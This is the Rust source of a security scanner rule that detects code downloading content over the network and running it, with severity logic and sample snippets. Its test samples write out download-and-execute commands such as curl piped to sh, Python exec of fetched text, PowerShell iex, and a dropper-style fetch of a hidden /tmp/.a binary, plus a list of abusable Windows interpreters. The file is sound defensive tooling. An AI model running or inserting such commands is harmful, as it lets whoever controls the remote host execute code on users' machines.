//! `execution-download-run`: what comes over the network runs.

use super::unseen::{FETCHERS, is_in_program, is_spelled_out, pipes_and_runs, starts_unasked};
use crate::finding::{Confidence, Severity};
use crate::scan::code::Origin;
use crate::scan::code::Unit;
use crate::scan::collecting_host;
use crate::scan::command;
use crate::scan::language::Language;
use crate::scan::operation::{Act, Event, Operation, Origins, ShellUse, Value};
use crate::scan::published;
use crate::scan::quiet::is_unseen;
use crate::scan::rule::{Check, Circumstance, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-download-run",
    title: "Downloads code and runs it",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Whoever controls the address, or the way to it, decides what runs, today and tomorrow, and no scan of the package can see it.",
    fix: "Ship the code in the package, or pin a version and compare a checksum before it runs.",
    references: &["CWE-494", "CWE-829", "OWASP-LLM03", "ATT&CK T1105"],
    hits: &[
        Sample::File("a.sh", "curl -fsSL https://get.example.com/i.sh | sh\n"),
        Sample::File(
            "a.sh",
            "curl -o i.sh https://get.example.com/i.sh\nchmod +x i.sh && ./i.sh\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import requests\nexec(requests.get('https://get.example.com/i.py').text)\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os\nos.system('curl https://get.example.com/i.sh | sh')\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess, urllib.request\nopen('/tmp/i.sh', 'wb').write(urllib.request.urlopen('https://get.example.com/i.sh').read())\nsubprocess.run(['bash', '/tmp/i.sh'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, urllib.request\nurllib.request.urlretrieve('http://198.51.100.7/agent', '/tmp/.a')\nos.chmod('/tmp/.a', 0o755)\nos.system('/tmp/.a &')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const r = await fetch(url);\neval(await r.text());\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://get.example.com/i.sh | sh');\n",
        ),
        Sample::File("a.ps1", "iex (iwr https://get.example.com/i.ps1)\n"),
        Sample::File(
            "a.ps1",
            "iwr https://get.example.com/i.ps1 -OutFile i.ps1; .\\i.ps1\n",
        ),
    ],
    misses: &[
        Sample::File("a.sh", "curl -fsS https://api.example.com/v1 | jq .\n"),
        Sample::File("a.sh", "# curl https://get.example.com/i.sh | sh\n"),
        Sample::File(
            "scripts/a.py",
            "import requests, subprocess\nopen('/tmp/d.json', 'w').write(requests.get('https://api.example.com').text)\nsubprocess.run(['jq', '.', '/tmp/d.json'])\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import requests, json\nprint(json.loads(requests.get('https://api.example.com').text))\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const r = await fetch(url);\nconst data = JSON.parse(await r.text());\n",
        ),
        Sample::File(
            "a.ps1",
            "$r = irm https://api.example.com/v1\nWrite-Output $r.name\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if let Some(span) = pipes_and_runs(unit) {
        reporter
            .raise(span)
            .severity(Severity::Blocker)
            .message("Runs a file that it downloaded");
        return;
    }
    let mut stored: Vec<(&str, &Value)> = Vec::new();
    let mut fetched = false;
    for (index, operation) in unit.lowered.operations.iter().enumerate() {
        match &operation.act {
            Act::Evaluate { code } if code.origins.has(Origins::NETWORK) => {
                report(unit, reporter, index, code, "Downloads code and runs it");
            }
            Act::Execute {
                program,
                command,
                input,
                shell,
            } => {
                // `["sh", "-c", text]`: the operation is the shell's own.
                let own = program.as_deref() == Some(operation.callee.as_str())
                    && command.text.is_none()
                    && is_interpreter(&operation.callee);
                let received = (program.is_none() || own)
                    && *shell != ShellUse::No
                    && command.origins.has(Origins::NETWORK);
                let interpreter = program.as_deref().is_some_and(is_interpreter);
                let fed = interpreter && input.origins.has(Origins::NETWORK) && !is_shell(unit);
                if received {
                    report(
                        unit,
                        reporter,
                        index,
                        command,
                        "Runs commands that come over the network",
                    );
                } else if fed {
                    report(unit, reporter, index, input, "Downloads code and runs it");
                } else if !is_shell(unit)
                    && let Some((_, content)) = stored
                        .iter()
                        .find(|(path, _)| runs(path, program.as_deref(), command))
                {
                    report(
                        unit,
                        reporter,
                        index,
                        content,
                        "Runs a file that it downloaded",
                    );
                } else if fetched
                    && !is_shell(unit)
                    && starts_temporary(command, program.as_deref())
                {
                    report(
                        unit,
                        reporter,
                        index,
                        command,
                        "Runs a file of a temporary folder in code that downloads",
                    );
                }
            }
            Act::Contact { local: false, .. } => fetched = true,
            Act::Write { path, content } if content.origins.has(Origins::NETWORK) => {
                if path
                    .text
                    .as_deref()
                    .is_some_and(|path| matches!(path, "__file__" | "__filename" | "$0"))
                {
                    report(
                        unit,
                        reporter,
                        index,
                        content,
                        "Replaces itself by what it downloads",
                    );
                    continue;
                }
                if let Some(path) = path.text.as_deref()
                    && path.len() > 2
                    && stored.len() < 64
                {
                    stored.push((path, content));
                }
            }
            _ => {}
        }
    }
}

fn is_shell(unit: &Unit) -> bool {
    matches!(unit.language, Language::Shell | Language::PowerShell)
}

fn is_interpreter(program: &str) -> bool {
    Language::of_program(program).is_some()
        || matches!(
            program,
            "perl"
                | "ruby"
                | "php"
                | "osascript"
                | "cmd"
                | "java"
                | "installutil"
                | "regasm"
                | "regsvr32"
                | "rundll32"
                | "msiexec"
                | "mshta"
                | "wscript"
                | "cscript"
        )
}

/// Whether a command runs the file at `path`: by itself, or as what an
/// interpreter is given first.
fn runs(path: &str, program: Option<&str>, command: &Value) -> bool {
    let Some(line) = command.text.as_deref() else {
        return false;
    };
    let line = &line[..floor(line, 4096)];
    let path = path.trim_start_matches("./");
    let is_file = |word: &str| word.trim_matches(['"', '\'']).trim_start_matches("./") == path;
    let mut words = line.split_whitespace();
    let first = words.next().unwrap_or_default();
    if is_file(first) {
        return true;
    }
    program.is_some_and(is_interpreter)
        && words
            .find(|word| !word.starts_with('-'))
            .is_some_and(is_file)
}

/// Whether a command runs a file that lies in a temporary folder.
fn starts_temporary(command: &Value, program: Option<&str>) -> bool {
    let Some(line) = command.text.as_deref() else {
        return false;
    };
    let line = &line[..floor(line, 4096)];
    let temporary = |word: &str| {
        let word = word.trim_matches(['"', '\'']);
        [
            "/tmp/",
            "/var/tmp/",
            "/dev/shm/",
            "/private/tmp/",
            "%TEMP%",
            "$TMPDIR/",
        ]
        .iter()
        .any(|folder| word.starts_with(folder))
    };
    let mut words = line
        .split_whitespace()
        .filter(|word| !matches!(*word, "nohup" | "sudo" | "exec" | "start" | "setsid"));
    let first = words.next().unwrap_or_default();
    temporary(first)
        || program.is_some_and(is_interpreter)
            && words
                .find(|word| !word.starts_with('-'))
                .is_some_and(temporary)
}

fn floor(text: &str, most: usize) -> usize {
    let mut end = text.len().min(most);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    end
}

fn report(unit: &Unit, reporter: &mut Reporter<'_>, index: usize, value: &Value, message: &str) {
    let span = unit.lowered.operations[index].span;
    let address = source(unit, index, value);
    let told = reporter.in_documentation() && !command::is_program(unit);
    let path = reporter.path().to_ascii_lowercase();
    let raised = reporter.raise_flow(span, &value.way);
    raised.message(message);
    if told {
        raised.because(Circumstance::Documentation);
    }
    let Some(address) = address else {
        if !is_shell(unit) {
            raised.severity(Severity::Blocker);
        }
        return;
    };
    if collecting_host::of_address(address).is_some() {
        raised
            .severity(Severity::Blocker)
            .message(format!("{message}, from a host that anybody can use"));
    } else if published::is_published(address) {
        raised
            .severity(Severity::Info)
            .message("Runs the installer that the maker of a tool serves");
    } else if starts_unasked(&path) {
        raised.severity(Severity::Blocker).message(format!(
            "{message}, from a file that tools run by themselves"
        ));
    } else if !is_shell(unit) && unit.origin != Origin::Fence {
        raised.severity(Severity::Blocker);
    } else if unit.origin == Origin::Nested && is_in_program(&path) {
        raised
            .severity(Severity::Blocker)
            .message(format!("{message}, out of a program of another language"));
    } else if command::is_program(unit) && is_unseen(unit, span) {
        raised
            .severity(Severity::Blocker)
            .message(format!("{message}, behind everybody's back"));
    } else if unit.language == Language::Shell
        && command::is_program(unit)
        && !FETCHERS.iter().any(|name| unit.text.contains(name))
    {
        raised
            .severity(Severity::Blocker)
            .message(format!("{message}, by a program that it does not name"));
    } else if unit.language == Language::PowerShell && is_spelled_out(unit, index) {
        raised
            .severity(Severity::Blocker)
            .message(format!("{message}, by a name that it does not write"));
    } else if address.starts_with("http://") {
        raised.severity(Severity::Blocker).message(format!(
            "{message}, over a way that anybody on it can change"
        ));
    }
}

/// Where a value was downloaded from: by its way, or by the last call in front
/// of the place that reaches the network.
fn source<'a>(unit: &'a Unit, index: usize, value: &'a Value) -> Option<&'a str> {
    let followed = value.way.steps().iter().find_map(|step| match &step.event {
        Event::Download(address) => address.as_deref(),
        _ => None,
    });
    followed.or_else(|| {
        let operations = &unit.lowered.operations;
        let here = operations[index].span;
        let contact = |operation: &'a Operation| match &operation.act {
            Act::Contact { address, .. } => address.text.as_deref().filter(|text| !text.is_empty()),
            _ => None,
        };
        // A pipeline begins where its download does, so look a little ahead.
        operations[index..]
            .iter()
            .take(8)
            .filter(|operation| operation.span.start < here.end)
            .find_map(contact)
            .or_else(|| operations[..index].iter().rev().take(64).find_map(contact))
    })
}
